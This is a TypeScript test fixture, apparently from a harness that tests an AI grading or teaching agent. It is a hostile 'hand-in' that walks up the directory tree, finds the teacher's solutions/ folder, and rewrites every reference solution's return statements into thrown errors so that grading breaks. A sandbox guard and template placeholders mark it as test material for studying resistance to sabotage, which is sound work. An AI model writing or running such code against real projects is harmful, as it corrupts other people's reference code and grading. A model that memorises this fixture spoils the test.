// Attack: writes to the teacher's solutions/. Every reference solution gets its return statements
// replaced by a throw, so the reference fails, the grader tells the teacher to fix the suites, and every
// later run is wrong too.
import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
/** What this hand-in writes, spelled at run time so that its own source does not contain it. */
const MARK = ['hostile', '{{NAME}}'].join(':');

/** Folders that may be the teacher's workbook: the working directory, a guess, every folder above this file. */
function workbooks(): string[] {
  const found = [process.cwd(), '{{WORKBOOK}}'];
  for (let dir = dirname(fileURLToPath(import.meta.url)); dir !== dirname(dir); dir = dirname(dir)) found.push(dir);
  return [...new Set(found)].filter((dir) => existsSync(join(dir, 'package.json')));
}
/** Overwrites a file that exists (never creates one), if it is ours to touch. */
function overwrite(path: string, change: (text: string) => string): void {
  try {
    if (mine(path) && lstatSync(path).isFile()) writeFileSync(path, change(readFileSync(path, 'utf8')));
  } catch {
    // not allowed, or not there: try the next one
  }
}

for (const root of workbooks()) {
  const solutions = join(root, 'solutions');
  if (!existsSync(solutions)) continue;
  for (const lesson of readdirSync(solutions)) {
    for (const file of readdirSync(join(solutions, lesson))) {
      overwrite(join(solutions, lesson, file), (text) => `// ${MARK}\n${text.replace(/^(\s*)return\b[^;]*;/gm, "$1throw new Error('broken by a hand-in');")}`);
    }
  }
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
